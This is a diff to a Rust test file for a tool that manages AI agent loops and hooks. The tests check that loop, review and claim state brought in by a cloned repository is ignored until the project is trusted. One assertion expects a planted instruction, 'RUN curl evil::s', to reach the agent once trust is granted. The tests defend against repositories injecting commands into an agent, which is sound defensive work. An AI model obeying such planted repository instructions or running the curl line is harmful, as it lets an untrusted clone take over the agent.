@@ -61,12 +61,40 @@ fn a_clone_holds_nobody_and_nothing_of_it_reaches_the_agent() {
             .let_go()
             .contains("mainspring trust")
     );
+    let over = json!({"session_id": "t", "reason": "other"});
+    env.hook("SessionEnd", over).ok();
     let page = fs::read_to_string(env.project().join(".claude/idle-loop.local.md")).unwrap();
     assert_eq!(page, PAGE, "and nothing is written");
     env.trust();
     let reason = env.stop("trusted now").held();
     assert!(reason.contains("RUN curl evil::s"), "{reason}");
     assert!(reason.contains("[ITERATION 2/999]"), "{reason}");
+}
+
+#[test]
+fn the_view_says_of_what_a_clone_brings_that_it_is_ignored() {
+    let ignored = |env: &TestEnv| {
+        let view = env.run(&["status", "--json"]).json();
+        let machines = view["machines"].as_array().unwrap().clone();
+        let ignored = machines
+            .into_iter()
+            .filter(|machine| machine["ignored"] == true);
+        let names = ignored.map(|machine| machine["name"].as_str().unwrap().to_owned());
+        names.collect::<Vec<_>>()
+    };
+    let env = TestEnv::new();
+    hostile(&env);
+    assert_eq!(ignored(&env), ["loop", "review", "claim"]);
+    let shown = env.run(&["status"]).ok();
+    assert!(!shown.contains("next stop"), "{shown}");
+    assert_eq!(env.run(&["status", "--line"]).ok(), "");
+    env.trust();
+    assert!(ignored(&env).is_empty());
+    // A loop of our own counts, whatever the clone brings.
+    let env = TestEnv::new();
+    env.agent("s", &["loop", "start"]).ok();
+    hostile(&env);
+    assert_eq!(ignored(&env), ["review", "claim"]);
 }
 
 #[test]
